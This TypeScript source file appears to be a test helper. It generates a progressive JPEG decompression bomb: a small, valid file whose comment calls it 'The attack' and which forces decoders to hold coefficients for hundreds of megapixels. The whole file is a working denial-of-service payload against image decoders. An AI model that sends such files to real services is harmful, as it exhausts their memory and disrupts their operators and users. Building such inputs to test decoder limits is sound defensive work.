/**
 * A whole, valid progressive JPEG of `side` x `side` grey pixels, 4:4:4, some 1.6 MB for 265 megapixels. The attack:
 * a progressive picture cannot be shrunk while it is read; all coefficients are kept, 6 bytes a pixel and more.
 *
 * Each block of the first scan is one zero bit a component ("the same as the block before"); the later scans say
 * "nothing more" for 32,767 blocks at a time (ITU-T T.81, G.1.2).
 */
export function progressiveJpegBomb(side: number): Buffer {
  const blocks = Math.ceil(side / 8) ** 2;
  return Buffer.concat([
    START,
    segment(0xdb, [0, ...Array.from({ length: 64 }, () => 1)]),
    segment(0xc2, [8, ...u16(side), ...u16(side), 3, ...COMPONENTS.flatMap((id) => [id, 0x11, 0])]),
    oneCodeTable(0x00, NO_DIFFERENCE),
    oneCodeTable(0x10, END_OF_32767_BLOCKS),
    segment(0xda, [3, ...COMPONENTS.flatMap((id) => [id, 0]), 0, 0, 0]),
    zeroBits(blocks * COMPONENTS.length),
    ...COMPONENTS.map((id) => Buffer.concat([segment(0xda, [1, id, 0, 1, 63, 0]), emptyScan(blocks)])),
    END,
  ]);
}

const START = Buffer.from([0xff, 0xd8]);
const END = Buffer.from([0xff, 0xd9]);
const COMPONENTS = [1, 2, 3];
const NO_DIFFERENCE = 0x00;
/** run length category 14: 2^14 blocks and as many more as the next 14 bits say */
const END_OF_32767_BLOCKS = 0xe0;
const LONGEST_RUN = 32_767;

function segment(marker: number, body: readonly number[]): Buffer {
  return Buffer.from([0xff, marker, ...u16(body.length + 2), ...body]);
}

/** A Huffman table of one symbol, whose code is a single zero bit. */
function oneCodeTable(kindAndId: number, symbol: number): Buffer {
  const lengths = [1, ...Array.from({ length: 15 }, () => 0)];
  return segment(0xc4, [kindAndId, ...lengths, symbol]);
}

function zeroBits(count: number): Buffer {
  const bits = Buffer.alloc(Math.ceil(count / 8));
  const used = count % 8;
  if (used > 0) bits[bits.length - 1] = 0xff >> used;
  return bits;
}

/** Codes of 15 bits: the zero bit, then 14 bits; the last run may reach past the end, which nobody minds. */
function emptyScan(blocks: number): Buffer {
  const runs = Math.ceil(blocks / LONGEST_RUN);
  const bits = `0${'1'.repeat(14)}`.repeat(runs).padEnd(Math.ceil((runs * 15) / 8) * 8, '1');
  const bytes = (bits.match(/.{8}/g) ?? []).map((byte) => Number.parseInt(byte, 2));
  return Buffer.from(bytes.flatMap((byte) => (byte === 0xff ? [0xff, 0x00] : [byte])));
}

const u16 = (value: number) => [value >> 8, value & 0xff];
